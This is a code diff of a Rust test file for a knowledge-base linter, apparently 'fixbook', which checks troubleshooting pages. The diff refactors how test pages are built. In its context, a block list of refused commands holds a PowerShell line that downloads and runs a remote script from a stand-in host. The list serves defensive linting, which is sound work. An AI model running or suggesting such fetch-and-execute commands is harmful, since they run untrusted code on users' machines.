@@ -8,6 +8,8 @@ use fixbook::diagnostic::Severity;
 use fixbook::files::Tree;
 use fixbook::kb;
 
+use crate::lints::page;
+
 /// Each is refused wherever it stands.
 const NEVER: &[&str] = &[
     r#"iex (iwr https://example.com/x.ps1)"#,
@@ -99,13 +101,11 @@ fn of_init() -> String {
 
 /// The codes of the errors in a page that holds this text in its fix.
 fn errors(settings: &str, text: &str) -> Vec<&'static str> {
-    let front = "title: \"The trouble of today\"\nkind: guide\napplies_to: [app]\nrisk: low\nsummary: \"It fails.\"\n\
-        references: [{title: \"Manual\", url: \"https://example.com/\"}]\nlast_verified: \"2026-11-20\"\n";
     let body = format!("## Fix\n\n1. Run it:\n\n{text}\n\n## Verify\n\n1. Look at `app.log`.\n");
     let mut tree = Tree::default();
     tree.insert("book.toml", settings);
     tree.insert("kb/products.yaml", "- {id: app, title: App}\n");
-    tree.insert("kb/app/page.md", format!("---\n{front}---\n\n{body}"));
+    tree.insert("kb/app/page.md", page("low", &body));
     let (_, found) = kb::load(&tree);
     let errors = found.iter().filter(|fault| fault.code.severity == Severity::Error);
     // How a command is written is another matter.
